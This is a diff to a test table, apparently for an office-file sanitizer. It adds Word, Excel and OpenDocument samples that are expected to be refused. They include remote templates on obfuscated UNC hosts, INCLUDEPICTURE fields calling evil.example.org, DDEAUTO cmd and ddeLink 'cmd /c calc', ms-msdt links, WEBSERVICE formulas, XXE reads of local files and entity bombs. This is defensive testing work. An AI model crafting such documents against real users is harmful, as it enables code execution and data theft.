@@ -60,6 +60,15 @@ def _relations() -> Iterator[Row]:
     yield ("image-capitals", "writes its address in capitals", Fate.REFUSED, _related("image", lambda bait: bait.address.replace("http", "HTTP")))
     yield ("image-blank", "puts a blank before its address", Fate.REFUSED, _related("image", lambda bait: f" {bait.address}/a"))
     yield ("image-no-scheme", "leaves out how it is loaded", Fate.REFUSED, _related("image", lambda bait: "//203.0.113.9/a.png"))
+    for name, tries, machine in (
+        ("number", "writes its address as one number", "3405803785"),
+        ("hexadecimal", "writes it in another way", "0xcb007109"),
+        ("escaped", "escapes the dots of its name", "evil%2eexample%2eorg"),
+        ("full-width", "has dots of another alphabet in its name", "evil。example。org"),
+        ("web-folder", "is asked through the web", "files@80"),
+    ):
+        yield (f"template-share-{name}", f"loads a template from a machine that {tries}", Fate.REFUSED, _related("attachedTemplate", lambda bait, machine=machine: f"\\\\{machine}\\a\\a.dotm"))
+    yield ("template-share-bare", "names nothing but the machine", Fate.REFUSED, _related("attachedTemplate", lambda bait: "\\\\evil.example.org"))
     yield ("hyperlink-script", "has a script behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "javascript:a()"))
     yield ("hyperlink-program", "has a program's own address behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "ms-msdt:/id PCWDiagnostic"))
     yield ("hyperlink-search", "has a search of the machine behind a link", Fate.REFUSED, _related("hyperlink", lambda bait: "search-ms:query=a&amp;crumb=location:\\\\203.0.113.9\\a"))
@@ -71,6 +80,10 @@ def _run(instruction: str) -> str:
 
 def _field(instruction: str) -> Make:
     return lambda bait: _document(_run(f"<w:r><w:instrText>{instruction.format(bait.address)}</w:instrText></w:r>"))
+
+
+def _field_of(before: str, inner: str, behind: str) -> str:
+    return _run(f"<w:r><w:instrText>{before}</w:instrText></w:r>{inner}<w:r><w:instrText>{behind}</w:instrText></w:r>")
 
 
 def _document(body: str) -> bytes:
@@ -88,6 +101,17 @@ def _word() -> Iterator[Row]:
     )
     yield ("field-dde-simple", "writes the field as an attribute", Fate.REFUSED, lambda bait: _document('<w:fldSimple w:instr="ddeauto cmd"/>'))
     yield "field-picture", "loads a picture by a field", Fate.REFUSED, _field('INCLUDEPICTURE "{0}/a.png" \\d')
+    yield ("field-picture-file", "loads a picture by a file's address", Fate.REFUSED, _field('INCLUDEPICTURE "file://evil.example.org/share/a.png" \\d'))
+    yield ("field-picture-share", "loads a picture from a machine elsewhere", Fate.REFUSED, _field('INCLUDEPICTURE "file:///\\\\\\\\evil.example.org\\\\a.png"'))
+    yield ("field-text-file", "loads a text by a file's address", Fate.REFUSED, _field("INCLUDETEXT file://evil.example.org/a/b.docx"))
+    yield (
+        "field-nested",
+        "has another field work its address out",
+        Fate.REFUSED,
+        lambda bait: _document(_field_of('INCLUDEPICTURE "', _run("<w:r><w:instrText>QUOTE 104 116 116 112</w:instrText></w:r>"), '://evil.example.org/a.png"')),
+    )
+    yield ("field-words", "writes a part of its address as words", Fate.REFUSED, lambda bait: _document(_field_of('INCLUDEPICTURE "ht', "<w:r><w:t>tp</w:t></w:r>", '://evil.example.org/a.png"')))
+    yield "field-database", "loads figures by a field", Fate.REFUSED, _field('DATABASE \\c "DSN=a;SERVER=evil.example.org" \\s "SELECT"')
     yield "field-text", "loads a text by a field", Fate.REFUSED, _field('INCLUDETEXT "{0}/a.docx"')
     yield (
         "macros",
@@ -127,17 +151,65 @@ def _word() -> Iterator[Row]:
         ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'),
     ):
         yield (f"chunk-{ending}", f"has a piece of another kind in it: {ending}", Fate.REFUSED, lambda bait, ending=ending, content=content: docx({f"word/a.{ending}": content}))
+    for mode in ("", ' TargetMode="Internal"'):
+        yield (f"chunk-page-inside{'-said' if mode else ''}", "has Word take in a page that is in the file", Fate.REFUSED, lambda bait, mode=mode: _with_chunk(bait, mode))
+    yield ("chunk-unrelated", "takes in a piece of another kind", Fate.REFUSED, lambda bait: _document("<w:altChunk/>"))
+    yield (
+        "form-letter",
+        "asks a server for the data of a form letter",
+        Fate.REFUSED,
+        lambda bait: docx({"word/settings.xml": f'<w:settings {_W}><w:mailMerge><w:connectString w:val="Provider=a;Data Source={bait.address}"/><w:query w:val="SELECT"/></w:mailMerge></w:settings>'}),
+    )
+    yield (
+        "part-renamed",
+        "gives its main part an ending that is not read as XML",
+        Fate.REFUSED,
+        lambda bait: zipped({"[Content_Types].xml": f'<Types><Override PartName="/word/document.dat" ContentType="{DOCX_TYPE}.main+xml"/></Types>', "word/document.dat": _with_command(_W)}),
+    )
+    yield ("part-renamed-header", "does so with a header", Fate.REFUSED, lambda bait: docx({"word/header1.dat": _with_command(_W)}, types=(("/word/header1.dat", f"{DOCX_TYPE.rpartition('.')[0]}.wordprocessingml.header+xml"),)))
+    yield (
+        "part-renamed-ending",
+        "gives the ending its type",
+        Fate.REFUSED,
+        lambda bait: zipped({
+            "[Content_Types].xml": f'<Types><Default Extension="DAT" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{DOCX_TYPE}.main+xml"/></Types>',
+            "word/document.xml": "<document/>", "word/header1.dat": _with_command(_W),
+        }),
+    )
+    yield ("part-untyped", "has no type for it", Fate.REFUSED, lambda bait: docx({"word/header1.dat": b"\xef\xbb\xbf \n" + _with_command(_W).encode()}))
+    yield ("part-untyped-utf16", "writes it in another encoding", Fate.REFUSED, lambda bait: docx({"word/header1.dat": ('<?xml version="1.0" encoding="UTF-16"?>' + _with_command(_W)).encode("utf-16")}))
     yield ("chunk-renamed", "calls a page a picture", Fate.REFUSED, lambda bait: docx({"word/media/image1.png": "<html><script>a()</script></html>"}))
     yield ("rtf", "is rich text, whatever it is called", Fate.REFUSED, lambda bait: b"{\\rtf1{\\object\\objautlink\\objupdate}}")
     yield "page", "is a page, whatever it is called", Fate.REFUSED, lambda bait: b"<html><script>a()</script></html>"
     yield ("flat", "is a document in one piece of XML, whatever it is called", Fate.REFUSED, lambda bait: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>')
     yield "older", "is of the older kind, which hides macros", Fate.REFUSED, lambda bait: OLE
+    for name, tries, drawing in (
+        ("import", "loads styles into a drawing", "<style>@import url({0}/a.css);</style>"),
+        ("import-escaped", "hides that it does", "<style>@\\69mport '{0}/a.css';</style>"),
+        ("style", "loads a pattern by a style", '<rect style="fill:url({0}/a)"/>'),
+        ("fill", "loads a pattern", '<rect fill="url(\'{0}/a\')"/>'),
+        ("handler", "runs a script when it is shown", '<rect onload="a()"/>'),
+        ("moved", "moves a picture's address", '<image><set attributeName="href" to="{0}/a"/></image>'),
+        ("base", "has every address lead elsewhere", '<g xml:base="{0}/"><image href="a.png"/></g>'),
+        ("script-renamed", "runs a script", "<script>a()</script>"),
+    ):
+        part = "word/media/a.dat" if name == "script-renamed" else "word/media/a.svg"
+        yield (f"drawing-{name}", tries, Fate.REFUSED, lambda bait, part=part, drawing=drawing: docx({part: f'<svg xmlns="http://www.w3.org/2000/svg">{drawing.format(bait.address)}</svg>'}))
     yield (
         "drawing-linked",
         "loads a picture inside a drawing",
         Fate.REFUSED,
         lambda bait: docx({"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait.address}/a"/></svg>'}),
     )
+
+
+def _with_command(space: str) -> str:
+    return f'<w:document {space}><w:body><w:p>{_run("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>")}</w:p></w:body></w:document>'
+
+
+def _with_chunk(bait: Bait, mode: str) -> bytes:
+    said = relations("aFChunk", "a.dat").replace(' TargetMode="External"', mode)
+    return docx({"word/_rels/document.xml.rels": said, "word/a.dat": f'words <img src="{bait.address}/a.png">'}, types=(("/word/a.dat", "text/html"),))
 
 
 def _attributes(name: str) -> str:
@@ -155,6 +227,7 @@ def _xml() -> Iterator[Row]:
     yield ("entity-main", "does so in the main part", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><document>&b;</document>', "word/document.xml"))
     yield ("entity-types", "does so in the list of kinds", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><Types>&b;</Types>', "[Content_Types].xml"))
     yield ("entity-relations", "does so in the relations", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><Relationships>&b;</Relationships>', "_rels/.rels"))
+    yield ("entity-renamed", "does so in a part of another ending", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{bait.file}">]><a>&b;</a>', "word/styles.dat"))
     yield ("laughs", "grows to gigabytes by entities", Fate.REFUSED, _part(lambda bait: f"<!DOCTYPE a [{laughs()}]><a>&i;</a>"))
     yield ("laughs-quadratic", "grows by one long entity said again and again", Fate.REFUSED, _part(lambda bait: f'<!DOCTYPE a [<!ENTITY b "{"c" * 100_000}">]><a>{"&b;" * 10_000}</a>'))
     yield (
@@ -190,6 +263,20 @@ def _excel() -> Iterator[Row]:
         Fate.REFUSED,
         lambda bait: xlsx({"xl/connections.xml": f'<connections><connection refreshOnLoad="1"><webPr url="{bait.address}/a"/></connection></connections>'}),
     )
+    yield ("part-renamed", "asks another server in a part of another ending", Fate.REFUSED, lambda bait: xlsx({"xl/worksheets/sheet1.dat": f'<worksheet><f>WEBSERVICE("{bait.address}")</f></worksheet>'}))
+    yield ("dde-renamed", "starts a program by a link in a part of another ending", Fate.REFUSED, lambda bait: xlsx({"xl/externalLinks/a.dat": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}))
+    for element in ("definedName", "formula", "formula1", "formula2", "calculatedColumnFormula"):
+        yield (f"web-service-{element.lower()}", f"asks another server by a formula in {element}", Fate.REFUSED, lambda bait, element=element: xlsx({"xl/worksheets/sheet1.xml": f'<a><{element}>LEN(_xlfn.WEBSERVICE("{bait.address}/"))</{element}></a>'}))
+    yield ("web-service-scale", "asks another server by the end of a scale", Fate.REFUSED, lambda bait: xlsx({"xl/worksheets/sheet1.xml": f"<a><cfvo type='formula' val='WEBSERVICE(&quot;{bait.address}&quot;)'/></a>"}))
+    for name, tries, part in (
+        ("database", "asks a database when it is opened", '<connections><connection refreshOnLoad="1" type="5"><dbPr connection="Provider=MSOLAP;Data Source={0}/" command="a"/></connection></connections>'),
+        ("text", "loads a text from a machine elsewhere when it is opened", '<connections><connection refreshOnLoad="true" type="6"><textPr sourceFile="\\\\203.0.113.9\\a\\a.txt"/></connection></connections>'),
+        ("timed", "asks a database every minute", '<connections><connection interval="1" type="5"><dbPr connection="Data Source={0}/"/></connection></connections>'),
+        ("table", "fills a table when it is opened", '<queryTable refreshOnLoad="1" connectionId="1"/>'),
+        ("all", "asks whatever it knows when it is opened", '<workbook><workbookPr refreshAllConnections="1"/></workbook>'),
+        ("pivot", "fills a pivot table from elsewhere when it is opened", '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'),
+    ):
+        yield (f"refresh-{name}", tries, Fate.REFUSED, lambda bait, part=part: xlsx({"xl/connections.xml": part.format(bait.address)}))
     yield ("macro-sheet", "has macros of the oldest kind", Fate.REFUSED, lambda bait: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}))
     yield (
         "macro-sheet-renamed",
@@ -263,6 +350,8 @@ def _sheets() -> Iterator[Row]:
         lambda bait: _content('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>', ODS_TYPE),
     )
     yield ("web-service", "asks another server by a formula", Fate.REFUSED, lambda bait: _content(f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{bait.address}&quot;)"/>', ODS_TYPE))
+    yield ("other-workbook", "takes a figure from elsewhere by a formula", Fate.REFUSED, lambda bait: _content(f'<table:table-cell table:formula="of:=[\'{bait.address}/a.ods\'#$a.A1]"/>', ODS_TYPE))
+    yield ("named-formula", "asks another server by a name", Fate.REFUSED, lambda bait: _content(f'<table:named-expression table:expression="WEBSERVICE(&quot;{bait.address}&quot;)"/>', ODS_TYPE))
     yield ("table-source", "loads figures from elsewhere", Fate.REFUSED, lambda bait: _content(f'<table:table-source xlink:href="{bait.address}/a.ods"/>', ODS_TYPE))
     yield ("cell-range-source", "loads some figures from elsewhere", Fate.REFUSED, lambda bait: _content(f'<table:cell-range-source xlink:href="{bait.address}/a.ods"/>', ODS_TYPE))
     yield "dde-link", "starts a program by a link", Fate.REFUSED, lambda bait: _content("<table:dde-link/>", ODS_TYPE)
